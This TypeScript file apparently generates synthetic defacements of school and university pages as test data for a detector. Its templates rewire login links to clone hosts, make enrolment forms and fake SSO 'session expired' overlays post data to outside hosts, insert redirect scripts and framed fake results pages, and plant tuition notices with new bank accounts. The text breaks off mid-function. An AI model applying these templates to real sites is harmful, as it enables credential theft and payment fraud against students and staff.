/**
 * Fresh38 defacement classes: written by someone who does not read the
 * engines, from the point of view of a university and school-district IT
 * security officer who also answers for the city's and region's
 * public-service portals (2025–2026). What that officer sees happen to
 * education and civic pages: student-facing pages hijacked (enrolment,
 * scholarship, exam-results and tuition-payment pages pointed elsewhere or
 * given new bank details), staff-login and webmail links sent to clones,
 * hacktivist and student-prank defacements, SEO spam in forgotten
 * department pages, job-offer and "pay your fee" scams, and the contact
 * numbers and e-mails of admissions and help desks swapped. The classes
 * are spread over three questions: what a visitor sees, where the page
 * sends visitors and their data (links, forms, scripts, frames, redirects,
 * downloads), and identifiers visitors copy or trust (phones, e-mails, bank
 * accounts, wallets, payment handles, social profiles). Wording, language
 * (the page's own language where an attacker aiming at its readers would
 * use it), placement, sizes, hosts and numbers vary with the rng.
 * Sources, recalled from memory without internet access and possibly
 * inexact in detail: Zone-H style defacement archives (school and
 * university sites are among the most frequent entries), Sucuri and
 * Malwarebytes write-ups of SEO spam (essay-writing, pharma and
 * "slot gacor" gambling links on .edu and .ac pages) and of JavaScript
 * redirects, Sansec reports on skimmers on payment pages, Unit 42 and
 * Microsoft reports on adversary-in-the-middle phishing of Microsoft 365
 * and university SSO, the "ClickFix" fake-CAPTCHA lures of 2024–2025,
 * CERT and FBI/IC3 advisories on student employment scams, fake
 * scholarship and tuition-payment diversion, and OWASP's notes on
 * open redirects, form hijacking and clickjacking frames.
 * Scored in the `fresh38` group, never tuned on.
 */
import { type ChangeClass, bottom, brandName, head, lang, lineAfter, occurrences, setAttr, shown, top } from "./classes.js"
import { type Page, makeWallet } from "./corpus.js"
import { type Change, type Splice, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, swapPhone } from "./locales.js"
import { type El, type Range, insideRaw } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, upper } from "./rng.js"
import { brandLookalike, greetz, libLookalike, nick, political, randomDomain, scriptPath, signature, team } from "./words.js"

const deface = (name: string, make: (page: Page, rng: Rng) => Change, extra: Partial<ChangeClass> = {}): ChangeClass => ({ name, kind: "defacement", group: "fresh38", ...extra, make })

/** A table with English always present, other languages where written. */
type L<A> = Partial<Record<Lang, A>> & { readonly en: A }
/** The page's language when the table has it (70%), else English. */
const loc = <A>(rng: Rng, page: Page, t: L<A>): A => (chance(rng, 0.75) ? t[lang(page)] ?? t.en : t.en)

// ———————————————————————————— helpers ————————————————————————————

const usable = (page: Page, e: El) => !e.inert && !insideRaw(page.spots, e.start)
const rawInside = (page: Page, r: Range): boolean => page.spots.raw.some((x) => (x.start < r.end && x.end > r.start) || (x.start >= r.start && x.end <= r.end))
const occ = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => !rawInside(page, r))
const everywhere = (page: Page, pairs: ReadonlyArray<readonly [string, string]>): Array<Splice> => {
  const taken: Array<Range> = []
  const out: Array<Splice> = []
  for (const [from, to] of pairs) {
    if (from === "" || from === to) continue
    for (const r of occ(page, from)) {
      if (taken.some((t) => r.start < t.end && r.end > t.start)) continue
      taken.push(r)
      out.push(replace(r, to))
    }
  }
  return out
}
const lineBeside = (page: Page, needles: ReadonlyArray<string>, html: string, fallback: number): Splice => {
  for (const n of needles) {
    const l = lineAfter(page, n)
    if (l !== null) return insert(l.at, l.wrap(html))
  }
  return insert(fallback, `<p>${html}</p>`)
}
const fill = (s: string, vars: Readonly<Record<string, string>>) => s.replace(/\{(\w+)\}/g, (_, k: string) => vars[k] ?? "")
const blockSpot = (rng: Rng, page: Page) => pick(rng, [top(page), top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")])
const contactNeedles = (page: Page) => [page.ids.email, page.ids.phone.national, page.ids.phone.intl, page.ids.bank?.value ?? ""].filter((s) => s !== "")
const anchors = (page: Page, f: (href: string, el: El) => boolean): Array<El> =>
  page.spots.elements.filter((e) => e.name === "a" && e.shown && usable(page, e) && f((e.attribs.href ?? "").trim(), e))
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "campus"
const money = (page: Page, a: number) => page.site.locale.money(a)
const date = (page: Page, rng: Rng) => page.site.locale.date(new Date(Date.UTC(2025 + between(rng, 0, 1), between(rng, 0, 11), between(rng, 1, 28))))
const scamTld = (rng: Rng) => pick(rng, ["com", "net", "org", "info", "online", "site", "top", "xyz", "live", "app", "cc", "help", "support"])
/** A host made to look like the institution's own student or staff service. */
const campusClone = (rng: Rng, page: Page) =>
  pick(rng, [
    () => `${pick(rng, ["portal", "login", "sso", "webmail", "mail", "students", "my", "e-learning", "intranet", "owa"])}-${bare(page)}.${scamTld(rng)}`,
    () => `${bare(page)}-${pick(rng, ["edu", "portal", "login", "students", "admissions", "fees", "scholarship", "sso"])}.${scamTld(rng)}`,
    () => `${bare(page)}.${pick(rng, ["edu", "ac", "uni", "school"])}-${pick(rng, ["verify", "access", "account", "auth"])}.${scamTld(rng)}`,
    () => brandLookalike(rng, bare(page)),
    () => `${pick(rng, ["login", "auth", "account"])}.${pick(rng, ["microsoftonline", "office365", "outlook", "m365"])}-${alnum(rng, 4)}.${scamTld(rng)}`
  ])()
const textIn = (page: Page, e: El) => page.spots.texts.filter((t) => e.closeTag !== null && t.start >= e.openEnd && t.end <= e.closeTag.start).reduce((n, t) => n + t.text.trim().length, 0)
const personName = (rng: Rng) => `${pick(rng, ["Daniel", "Maria", "Kevin", "Sofia", "Ahmed", "Laura", "James", "Chen", "Lucas", "Emma", "Ivan", "Fatima"])} ${pick(rng, ["Okafor", "Miller", "Rossi", "Novak", "Garcia", "Schmidt", "Dubois", "Smith", "Kowalski", "Silva", "Janssen", "Brown"])}`
const freeMail = (rng: Rng, user: string) => `${user}@${pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "proton.me", "gmx.net", "mail.com", "aol.com"])}`

// ———————————————————————————— what a visitor sees ————————————————————————————

const prank: L<ReadonlyArray<string>> = {
  en: ["School is cancelled forever. Go home.", "All exams replaced by a nap. You're welcome.", "Principal {n} has resigned to become a DJ", "Free pizza for everyone in the cafeteria on Friday, bring your own pineapple", "Homework is now illegal", "Class of {y} runs this website now"],
  fr: ["L'école est annulée pour toujours. Rentrez chez vous.", "Tous les examens sont remplacés par une sieste.", "La promo {y} a pris le contrôle du site", "Les devoirs sont désormais interdits"],
  de: ["Die Schule fällt für immer aus. Geht nach Hause.", "Alle Prüfungen durch Mittagsschlaf ersetzt.", "Der Abi-Jahrgang {y} hat die Website übernommen", "Hausaufgaben sind ab sofort verboten"],
  es: ["Se cancelan las clases para siempre. Id a casa.", "Todos los exámenes se sustituyen por una siesta.", "La promoción {y} controla esta web", "Los deberes quedan prohibidos"],
  nl: ["School is voor altijd afgelast. Ga naar huis.", "Alle toetsen vervangen door een dutje.", "De examenklas van {y} heeft deze site overgenomen", "Huiswerk is vanaf nu verboden"],
  pt: ["As aulas foram canceladas para sempre. Vão para casa.", "Todas as provas substituídas por uma soneca.", "A turma de {y} manda neste site agora", "O dever de casa agora é proibido"],
  it: ["La scuola è annullata per sempre. Tornate a casa.", "Tutti gli esami sostituiti da un pisolino.", "La classe del {y} comanda questo sito", "I compiti sono ora vietati"]
}

// Student pranks (a pupil who found a teacher's CMS password or a stored session on a shared classroom PC): the page's first heading rewritten with a joke, often with a meme picture; the rest left as it was.
const studentPrank = deface("fresh38-student-prank-rewrites-first-heading", (page, rng) => {
  const text = fill(pick(rng, loc(rng, page, prank)), { n: personName(rng).split(" ")[1]!, y: String(between(rng, 2025, 2028)) })
  const out: Array<Splice> = []
  const hs = shown(page, "h1", (e) => usable(page, e) && e.closeTag !== null && !rawInside(page, { start: e.openEnd, end: e.closeTag.start }))
    .concat(shown(page, "h2", (e) => usable(page, e) && e.closeTag !== null && !rawInside(page, { start: e.openEnd, end: e.closeTag.start })))
  const meme = chance(rng, 0.5) ? `<img src="https://${pick(rng, ["i.imgur.com", "media.tenor.com", "i.redd.it", "media.giphy.com"])}/${alnum(rng, 7)}.${pick(rng, ["gif", "jpg", "png"])}" alt="" width="${between(rng, 120, 420)}">` : ""
  if (hs.length > 0) {
    const h = hs[0]!
    out.push(replace({ start: h.openEnd, end: h.closeTag!.start }, esc(text) + (chance(rng, 0.4) ? ` ${pick(rng, ["😂", "🤡", "💀", "lol", "xD", "🍕"])}` : "")))
    if (meme !== "") out.push(insert(h.closeTag!.end, meme))
  } else out.push(insert(top(page), `<h1>${esc(text)}</h1>${meme}`))
  return { splices: out }
})

// Hacktivist waves against education and municipal sites (a flag or logo, "hacked by" a crew, a political statement, greetz), the school's page left below the banner.
const hacktivistBanner = deface("fresh38-hacktivist-crew-banner-over-school-page", (page, rng) => {
  const w = chance(rng, 0.5) ? nick(rng) : team(rng)
  const logo = chance(rng, 0.7) ? `<img src="https://${pick(rng, [randomDomain(rng), "i.ibb.co", "i.postimg.cc", "i.imgur.com"])}/${alnum(rng, 8)}.${pick(rng, ["png", "jpg", "gif"])}" alt="" style="max-width:${between(rng, 120, 400)}px">` : ""
  const parts = `${logo}<h1>${esc(signature(rng, w).text)}</h1><p>${esc(political(rng).text)}</p>${chance(rng, 0.6) ? `<p>${esc(greetz(rng))}</p>` : ""}`
  const style = `background:${pick(rng, ["#000", "#111", "#220000", "#002200"])};color:${pick(rng, ["#0f0", "#fff", "#f00", "#ff0"])};text-align:center;padding:${between(rng, 20, 90)}px 10px;${chance(rng, 0.4) ? `min-height:${between(rng, 60, 100)}vh;` : ""}font-family:${pick(rng, ["monospace", "Courier New,monospace", "Verdana,sans-serif"])}`
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), `<div id="${pick(rng, ["hacked", "x", "owned", alnum(rng, 5)])}" style="${style}">${parts}</div>`))
})

const whole: L<ReadonlyArray<string>> = {
  en: ["Your students' data is in our hands. {n} records of pupils, parents and staff. Your IT department is a joke.", "This school spends money on everything except security. Patch your servers."],
  fr: ["Les données de vos élèves sont entre nos mains : {n} dossiers d'élèves, de parents et de personnels.", "Cet établissement dépense pour tout sauf la sécurité."],
  es: ["Los datos de vuestros alumnos están en nuestras manos: {n} registros de alumnos, padres y personal.", "Este centro gasta en todo menos en seguridad."],
  pt: ["Os dados dos seus alunos estão nas nossas mãos: {n} registros de alunos, pais e funcionários.", "Esta escola gasta com tudo, menos com segurança."],
  de: ["Die Daten eurer Schüler sind in unserer Hand: {n} Datensätze von Schülern, Eltern und Personal."],
  it: ["I dati dei vostri studenti sono nelle nostre mani: {n} record di alunni, genitori e personale."],
  nl: ["De gegevens van jullie leerlingen zijn in onze handen: {n} dossiers van leerlingen, ouders en personeel."]
}

// Whole-page defacements (index replaced through an upload form or an old CMS plugin): black page, crew signature, a jab at the school's IT, contact and a defacement-archive line.
const wholePage = deface("fresh38-whole-page-replaced-by-crew-notice-with-student-data-taunt", (page, rng) => {
  const w = chance(rng, 0.5) ? nick(rng) : team(rng)
  const sig = signature(rng, w).text
  const taunt = fill(pick(rng, loc(rng, page, whole)), { n: String(between(rng, 3, 90) * 1000 + between(rng, 0, 999)) })
  const handle = w.replace(/[^A-Za-z0-9_]/g, "").toLowerCase() || "x" + digits(rng, 3)
  const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${esc(sig)}</title></head><body style="background:#000;color:${pick(rng, ["#0f0", "#fff", "#f00"])};text-align:center;font-family:monospace"><h1>${esc(sig)}</h1><p>${esc(taunt)}</p><p>${esc(political(rng).text)}</p><p>${pick(rng, [`Telegram: @${handle}`, `t.me/${handle}`, `${handle}@proton.me`])}</p>${chance(rng, 0.5) ? `<p>${esc(greetz(rng))}</p>` : ""}<p>${esc(brandName(page))}</p></body></html>`
  return { html }
}, { wholePage: true })

const hoax: L<ReadonlyArray<string>> = {
  en: ["URGENT: all campuses are closed until further notice following a threat. Students must not come in. Exams of this week are cancelled.", "NOTICE: due to a gas leak the school is closed on {d}. All lessons move online, check your e-mail for the new link."],
  fr: ["URGENT : tous les sites sont fermés jusqu'à nouvel ordre suite à une menace. Les élèves ne doivent pas venir. Les examens de la semaine sont annulés.", "AVIS : en raison d'une fuite de gaz, l'établissement est fermé le {d}."],
  de: ["DRINGEND: Alle Standorte sind nach einer Drohung bis auf Weiteres geschlossen. Die Prüfungen dieser Woche entfallen.", "HINWEIS: Wegen eines Gaslecks bleibt die Schule am {d} geschlossen."],
  es: ["URGENTE: todos los campus quedan cerrados hasta nuevo aviso tras una amenaza. Se cancelan los exámenes de esta semana.", "AVISO: por una fuga de gas el centro permanecerá cerrado el {d}."],
  nl: ["DRINGEND: alle locaties zijn na een dreiging tot nader order gesloten. De toetsen van deze week vervallen."],
  pt: ["URGENTE: todos os campi estão fechados até novo aviso após uma ameaça. As provas desta semana estão canceladas."],
  it: ["URGENTE: tutte le sedi sono chiuse fino a nuovo avviso a seguito di una minaccia. Gli esami di questa settimana sono annullati."]
}

// Hoax closure notices (pranks and swatting-style disruption before exam weeks, posted through a compromised editor account): a red alert box that looks like the school's own emergency notice but is false.
const hoaxClosure = deface("fresh38-hoax-closure-and-cancelled-exams-alert", (page, rng) => {
  const text = fill(pick(rng, loc(rng, page, hoax)), { d: date(page, rng) })
  const style = `background:${pick(rng, ["#c00", "#b30000", "#d9534f", "#ffcc00"])};color:${pick(rng, ["#fff", "#000"])};padding:${between(rng, 10, 30)}px;font-weight:bold;font-size:${between(rng, 16, 26)}px`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), `<div class="${pick(rng, ["alert", "emergency", "notice-bar", "alert alert-danger"])}" role="alert" style="${style}">${esc(text)}</div>`))
})

const annul: L<ReadonlyArray<string>> = {
  en: ["All results of the last examination session have been annulled after a grading error. Students must re-register and pay the re-sit fee before {d}.", "Diplomas issued this year are invalid until confirmed. Confirm your identity on the results portal within 48 hours."],
  fr: ["Tous les résultats de la dernière session d'examens sont annulés après une erreur de notation. Les étudiants doivent se réinscrire et payer les frais de rattrapage avant le {d}."],
  de: ["Alle Ergebnisse der letzten Prüfungsphase wurden wegen eines Bewertungsfehlers annulliert. Studierende müssen sich bis {d} neu anmelden und die Wiederholungsgebühr zahlen."],
  es: ["Todos los resultados de la última convocatoria han sido anulados por un error de calificación. Los estudiantes deben volver a inscribirse y pagar la tasa antes del {d}."],
  pt: ["Todos os resultados da última época de exames foram anulados por erro de correção. Os alunos devem reinscrever-se e pagar a taxa até {d}."],
  it: ["Tutti i risultati dell'ultima sessione d'esame sono stati annullati per un errore di valutazione. Gli studenti devono reiscriversi e pagare la tassa entro il {d}."],
  nl: ["Alle uitslagen van de laatste toetsperiode zijn ongeldig verklaard na een beoordelingsfout. Studenten moeten zich vóór {d} opnieuw inschrijven."]
}

// Fabricated notices in the institution's voice, planted in a real paragraph (the text of a news item or welcome page replaced), used to spread panic or push students to a fee page.
const annulledResults = deface("fresh38-paragraph-replaced-by-false-annulled-results-notice", (page, rng) => {
  const text = fill(pick(rng, loc(rng, page, annul)), { d: date(page, rng) })
  const ps = shown(page, "p", (e) => usable(page, e) && e.closeTag !== null && !rawInside(page, { start: e.openEnd, end: e.closeTag.start }) && textIn(page, e) >= 50)
  const link = chance(rng, 0.5) ? ` <a href="https://${campusClone(rng, page)}/${pick(rng, ["results", "resit", "exams", "verify"])}">${esc(pick(rng, ["Results portal", "Portal", "→"]))}</a>` : ""
  if (ps.length > 0) {
    const p = pick(rng, ps.slice(0, 4))
    return splices(replace({ start: p.openEnd, end: p.closeTag!.start }, `<strong>${esc(text)}</strong>${link}`))
  }
  return splices(insert(slotAt(page.spots, "top"), `<p><strong>${esc(text)}</strong>${link}</p>`))
})

const seoTerms = [
  "buy essay online", "write my essay cheap", "slot gacor hari ini", "situs toto 4d", "cheap viagra no prescription", "best online casino bonus",
  "dissertation writing service", "fake diploma online", "buy cialis", "judi bola terpercaya", "assignment help uk", "payday loans same day",
  "mahjong ways 2", "live casino online", "replica watches", "pay someone to do my homework"
]

// SEO spam in forgotten department and staff pages (Sucuri and others report essay-mill, pharma and Indonesian gambling links on .edu/.ac hosts, whose reputation they borrow): a block of keyword links to spam hosts, in a footer-like list or mid-page.
const seoSpam = deface("fresh38-seo-spam-link-block-in-department-page", (page, rng) => {
  const n = between(rng, 3, 12)
  const links = Array.from({ length: n }, () => {
    const term = pick(rng, seoTerms)
    const host = chance(rng, 0.5) ? randomDomain(rng) : `${term.split(" ")[0]}${pick(rng, ["88", "-online", "hub", "pro", "777", "now"])}.${pick(rng, ["com", "net", "org", "xyz", "site", "io", "vip"])}`
    return `<a href="https://${host}/${pick(rng, ["", "?ref=" + bare(page), term.replace(/ /g, "-")])}">${esc(term)}</a>`
  })
  const sep = pick(rng, [" ", " | ", ", ", " · "])
  const html = chance(rng, 0.5) ? `<ul class="${pick(rng, ["links", "partners", "related"])}">${links.map((l) => `<li>${l}</li>`).join("")}</ul>` : `<p style="font-size:${between(rng, 9, 14)}px">${links.join(sep)}</p>`
  return splices(insert(pick(rng, [bottom(page), bottom(page), slotAt(page.spots, "middle"), slotAt(page.spots, "bottom")]), html))
})

// ———————————————————————————— where the page sends visitors ————————————————————————————

const loginWords = /(^|[/.?&=#]|\/\/)(login|log-in|signin|sign-in|webmail|owa|outlook|portal|sso|cas|moodle|canvas|blackboard|intranet|e-?learning|my-?account\d*|accounts?|students?|staff|office365|m365|mail|adfs|idp)([/.?&=#]|$)/i
const loginText = /(log ?in|sign ?in|webmail|e-?mail|moodle|portal|intranet|connexion|anmelden|acceso|inloggen|accedi|entrar|my account|staff|students?)/i
const labelOf = (page: Page, e: El) => page.spots.texts.filter((t) => t.parent === e.index).map((t) => t.text).join(" ")

// Staff-login and webmail links sent to clones (adversary-in-the-middle kits for Microsoft 365 and CAS/Shibboleth SSO, reported again and again against universities): every link that looks like a login, mail or learning-platform link points to a clone host; a page without one gets one.
const loginLinksToClone = deface("fresh38-webmail-and-sso-links-pointed-to-clone", (page, rng) => {
  const host = campusClone(rng, page)
  const path = pick(rng, ["/owa/", "/login", "/cas/login", "/idp/profile/SAML2/Redirect/SSO", "/common/oauth2/authorize", "/webmail/", "/auth/realms/staff", "/adfs/ls/"])
  const url = `https://${host}${path}${chance(rng, 0.4) ? `?client_id=${hex(rng, 8)}-${hex(rng, 4)}` : ""}`
  const els = anchors(page, (h, e) => !/^(mailto|tel|javascript):/i.test(h) && (loginWords.test(h) || loginText.test(labelOf(page, e)) || loginText.test(e.attribs.title ?? "")))
  const out = els.slice(0, between(rng, 1, 6)).map((e) => setAttr(page, e, "href", url))
  if (out.length === 0 || chance(rng, 0.25)) {
    const text = loc(rng, page, { en: pick(rng, ["Staff webmail", "Student login", "Office 365 login", "Staff portal"]), fr: "Messagerie du personnel", de: "Webmail für Beschäftigte", es: "Correo del personal", nl: "Webmail medewerkers", pt: "Webmail dos funcionários", it: "Webmail del personale" })
    out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top"), bottom(page)]), `<p><a href="${esc(url)}">${esc(text)}</a></p>`))
  }
  return { splices: out }
})

const feeNote: L<string> = {
  en: "Important: from this semester, tuition and enrolment fees must be paid to the university's new account below. Payments to the old account will be returned.",
  fr: "Important : à partir de ce semestre, les frais de scolarité et d'inscription doivent être versés sur le nouveau compte ci-dessous. Les paiements sur l'ancien compte seront retournés.",
  de: "Wichtig: Ab diesem Semester sind Studien- und Einschreibegebühren auf das neue Konto unten zu überweisen. Zahlungen auf das alte Konto werden zurückgebucht.",
  es: "Importante: a partir de este semestre, las tasas de matrícula deben abonarse en la nueva cuenta indicada abajo. Los pagos a la cuenta antigua serán devueltos.",
  nl: "Belangrijk: vanaf dit semester moeten collegegeld en inschrijfkosten op de nieuwe rekening hieronder worden betaald. Betalingen op de oude rekening worden teruggestort.",
  pt: "Importante: a partir deste semestre, as propinas e taxas de matrícula devem ser pagas na nova conta abaixo. Pagamentos na conta antiga serão devolvidos.",
  it: "Importante: da questo semestre le tasse di iscrizione vanno versate sul nuovo conto qui sotto. I pagamenti sul vecchio conto saranno respinti."
}
const foreignIban = (rng: Rng) => {
  const c = pick(rng, ["LT", "GB", "DE", "ES", "PT", "NL", "IT", "FR", "BE", "IE"])
  const bban = c === "LT" ? digits(rng, 16) : c === "GB" || c === "IE" ? upper(rng, 4) + digits(rng, 14) : c === "DE" ? digits(rng, 18) : c === "NL" ? upper(rng, 4) + digits(rng, 10) : c === "BE" ? digits(rng, 12) : digits(rng, 20)
  return groupIban(iban(c, bban))
}

// Tuition-payment diversion (fraud centres warn of hacked school sites and spoofed bursar e-mails announcing "new bank details"): a notice near the contact block or at the top giving a new account for fees, in a holder's name that is not the institution's.
const tuitionNewAccount = deface("fresh38-tuition-fee-notice-with-new-bank-account", (page, rng) => {
  const acc = foreignIban(rng)
  const holder = chance(rng, 0.5) ? personName(rng) : `${brandName(page)} ${pick(rng, ["Education Services Ltd", "Student Finance", "Fees Office", "Payments UAB"])}`
  const html = `<strong>${esc(loc(rng, page, feeNote))}</strong><br>IBAN ${acc}${chance(rng, 0.6) ? ` · BIC ${upper(rng, 4)}${upper(rng, 2)}${upper(rng, 2)}` : ""} · ${esc(holder)}`
  return splices(chance(rng, 0.5) ? lineBeside(page, contactNeedles(page), html, blockSpot(rng, page)) : insert(blockSpot(rng, page), `<div class="${pick(rng, ["notice", "alert alert-info", "fees"])}">${html}</div>`))
})

const scholarship: L<string> = {
  en: "{y} Scholarship Programme: {n} fully funded places for current students. Apply before {d}; a one-time processing fee of {f} is required.",
  fr: "Programme de bourses {y} : {n} bourses complètes pour nos étudiants. Candidatez avant le {d} ; des frais de dossier de {f} sont demandés.",
  de: "Stipendienprogramm {y}: {n} voll finanzierte Plätze für eingeschriebene Studierende. Bewerbung bis {d}; eine Bearbeitungsgebühr von {f} ist fällig.",
  es: "Programa de becas {y}: {n} becas completas para estudiantes. Solicítala antes del {d}; se requiere una tasa de gestión de {f}.",
  nl: "Beurzenprogramma {y}: {n} volledig gefinancierde plaatsen voor studenten. Aanvragen vóór {d}; eenmalige administratiekosten van {f}.",
  pt: "Programa de bolsas {y}: {n} bolsas integrais para estudantes. Candidate-se até {d}; é necessária uma taxa de processamento de {f}.",
  it: "Programma borse di studio {y}: {n} borse complete per gli studenti. Candidati entro il {d}; è richiesta una quota di {f}."
}

// Fake scholarship and grant offers (advance-fee scams aimed at students, often planted on real school sites to borrow their trust): a banner with a deadline, a fee, and an apply button to an outside form.
const fakeScholarship = deface("fresh38-fake-scholarship-with-processing-fee-link", (page, rng) => {
  const text = fill(loc(rng, page, scholarship), { y: String(between(rng, 2025, 2027)), n: String(between(rng, 20, 500)), d: date(page, rng), f: money(page, pick(rng, [25, 35, 49, 50, 75, 95, 120])) })
  const url = `https://${pick(rng, [campusClone(rng, page), randomDomain(rng), `forms.${pick(rng, ["gle", "office.com"])}/${alnum(rng, 10)}`])}`
  const btn = loc(rng, page, { en: "Apply now", fr: "Postuler", de: "Jetzt bewerben", es: "Solicitar", nl: "Nu aanvragen", pt: "Candidatar", it: "Candidati" })
  return splices(insert(blockSpot(rng, page), `<div class="${pick(rng, ["banner", "promo", "callout"])}" style="background:${pick(rng, ["#003366", "#0b5394", "#fff3cd"])};color:${pick(rng, ["#fff", "#222"])};padding:${between(rng, 10, 28)}px"><p>${esc(text)}</p><a href="${url.startsWith("https://forms.") ? url : url + "/" + pick(rng, ["apply", "scholarship", "grant", ""])}" style="font-weight:bold">${esc(btn)}</a></div>`))
})

// Enrolment and contact forms hijacked (the form's action changed so registrations, with ID numbers and parents' details, post to the attacker; OWASP and Sucuri describe the pattern): existing forms post elsewhere, or an enrolment form is added.
const formHijack = deface("fresh38-enrolment-form-action-sent-to-outside-host", (page, rng) => {
  const url = `https://${pick(rng, [campusClone(rng, page), randomDomain(rng)])}/${pick(rng, ["enrol.php", "submit", "api/apply", "register/save", "gate.php", "forms/post"])}`
  const fs = shown(page, "form", (e) => usable(page, e))
  if (fs.length > 0 && chance(rng, 0.8)) return { splices: fs.slice(0, between(rng, 1, 3)).map((f) => setAttr(page, f, "action", url)) }
  const w = loc(rng, page, { en: ["Online enrolment", "Student ID", "Date of birth", "Parent/guardian e-mail", "Submit"], fr: ["Inscription en ligne", "N° étudiant", "Date de naissance", "Courriel du parent", "Envoyer"], de: ["Online-Anmeldung", "Matrikelnummer", "Geburtsdatum", "E-Mail der Eltern", "Absenden"], es: ["Matrícula en línea", "DNI / NIE", "Fecha de nacimiento", "Correo del tutor", "Enviar"], pt: ["Matrícula online", "CPF", "Data de nascimento", "E-mail do responsável", "Enviar"], it: ["Iscrizione online", "Codice fiscale", "Data di nascita", "E-mail del genitore", "Invia"], nl: ["Online inschrijven", "BSN", "Geboortedatum", "E-mail ouder", "Verzenden"] })
  return splices(insert(slotAt(page.spots, pick(rng, ["top", "middle"] as const)), `<form action="${esc(url)}" method="post"><h3>${esc(w[0]!)}</h3><label>${esc(w[1]!)} <input name="sid"></label> <label>${esc(w[2]!)} <input name="dob" type="date"></label> <label>${esc(w[3]!)} <input name="email" type="email"></label> <button type="submit">${esc(w[4]!)}</button></form>`))
})

// Exam-results frames (a fake "check your results" page from another host framed into the real one, so the address bar stays on the school's domain): an iframe, either a box in the page or a full-window overlay.
const resultsFrame = deface("fresh38-exam-results-iframe-from-outside-host", (page, rng) => {
  const src = `https://${pick(rng, [campusClone(rng, page), randomDomain(rng)])}/${pick(rng, ["results", "exam-results", "grades", "transcript", "check"])}${chance(rng, 0.5) ? `?s=${alnum(rng, 6)}` : ""}`
  const overlay = chance(rng, 0.45)
  const style = overlay ? "position:fixed;top:0;left:0;width:100%;height:100%;border:0;z-index:99999;background:#fff" : `width:100%;height:${between(rng, 300, 900)}px;border:0`
  return splices(insert(overlay ? pick(rng, [top(page), bottom(page)]) : slotAt(page.spots, pick(rng, ["top", "middle"] as const)), `<iframe src="${esc(src)}" style="${style}"${chance(rng, 0.5) ? ' title="Results"' : ""}></iframe>`))
})

// Conditional JavaScript redirects (Sucuri and Malwarebytes: visitors from search engines or on phones sent to gambling, dating or scam sites, the admin never seeing it): a script from another host loaded in the head or body.
const redirectLoader = deface("fresh38-conditional-redirect-script-from-outside-host", (page, rng) => {
  const host = chance(rng, 0.5) ? libLookalike(rng) : randomDomain(rng)
  const tag = `<script${chance(rng, 0.5) ? " async" : ""} src="https://${host}${scriptPath(rng)}"${chance(rng, 0.3) ? ` data-cfasync="false"` : ""}></script>`
  return splices(insert(pick(rng, [head(page), head(page), top(page), bottom(page)]), tag))
})

const job: L<string> = {
  en: "Student job board: remote part-time assistant wanted, {h} hours a week, {p} per week. No experience needed. Message the coordinator on {c} with your student e-mail.",
  fr: "Offre étudiante : assistant(e) à distance, {h} heures par semaine, {p} par semaine. Sans expérience. Écrivez au coordinateur sur {c} avec votre courriel étudiant.",
  de: "Studentenjob: Remote-Assistenz gesucht, {h} Stunden pro Woche, {p} pro Woche. Keine Erfahrung nötig. Schreib dem Koordinator auf {c} mit deiner Uni-Mail.",
  es: "Bolsa de empleo: se busca asistente remoto a tiempo parcial, {h} horas a la semana, {p} por semana. Sin experiencia. Escribe al coordinador por {c} con tu correo de estudiante.",
  nl: "Studentenbaan: assistent op afstand gezocht, {h} uur per week, {p} per week. Geen ervaring nodig. Stuur de coördinator een bericht via {c}.",
  pt: "Vaga para estudantes: assistente remoto meio período, {h} horas por semana, {p} por semana. Sem experiência. Fale com o coordenador pelo {c}.",
  it: "Lavoro per studenti: assistente da remoto part-time, {h} ore a settimana, {p} a settimana. Nessuna esperienza. Scrivi al coordinatore su {c}."
}

// Student employment scams (FBI/IC3 and university warnings: fake "research assistant" or "personal assistant" jobs that end in cheque fraud or money-mule work): a job notice with pay and a private messenger contact.
const jobScam = deface("fresh38-student-job-offer-with-private-messenger-contact", (page, rng) => {
  const c = pick(rng, [`WhatsApp +${pick(rng, ["1", "44", "234", "63", "62", "90"])} ${digits(rng, 3)} ${digits(rng, 3)} ${digits(rng, 4)}`, `Telegram @${pick(rng, ["dr", "prof", "hr", "mr"])}${pick(rng, ["_", ""])}${alnum(rng, 6)}`, freeMail(rng, `${pick(rng, ["prof", "dr", "hr", "jobs"])}.${alnum(rng, 5)}`)])
  const text = fill(loc(rng, page, job), { h: String(between(rng, 4, 12)), p: money(page, between(rng, 25, 60) * 10), c })
  return splices(chance(rng, 0.5) ? insert(blockSpot(rng, page), `<div class="${pick(rng, ["job", "notice", "ad"])}"><p>${esc(text)}</p></div>`) : insert(slotAt(page.spots, "middle"), `<p>${esc(text)}</p>`))
})

// Fake Microsoft 365 / SSO re-login prompts (AiTM phishing kits, "your session has expired" boxes on real sites): an overlay with a password form that posts to another host.
const ssoOverlay = deface("fresh38-session-expired-sso-password-overlay", (page, rng) => {
  const w = loc(rng, page, { en: ["Your session has expired", "Sign in with your university account to continue", "Email", "Password", "Sign in"], fr: ["Votre session a expiré", "Connectez-vous avec votre compte universitaire", "Adresse e-mail", "Mot de passe", "Se connecter"], de: ["Ihre Sitzung ist abgelaufen", "Melden Sie sich mit Ihrem Hochschulkonto an", "E-Mail", "Kennwort", "Anmelden"], es: ["Su sesión ha caducado", "Inicie sesión con su cuenta institucional", "Correo", "Contraseña", "Iniciar sesión"], nl: ["Uw sessie is verlopen", "Log in met uw instellingsaccount", "E-mail", "Wachtwoord", "Aanmelden"], pt: ["A sua sessão expirou", "Inicie sessão com a sua conta institucional", "E-mail", "Palavra-passe", "Entrar"], it: ["La sessione è scaduta", "Accedi con il tuo account di ateneo", "E-mail", "Password", "Accedi"] })
  const action = `https://${campusClone(rng, page)}/${pick(rng, ["auth.php", "login/submit", "common/login", "next.php", "sso/verify"])}`
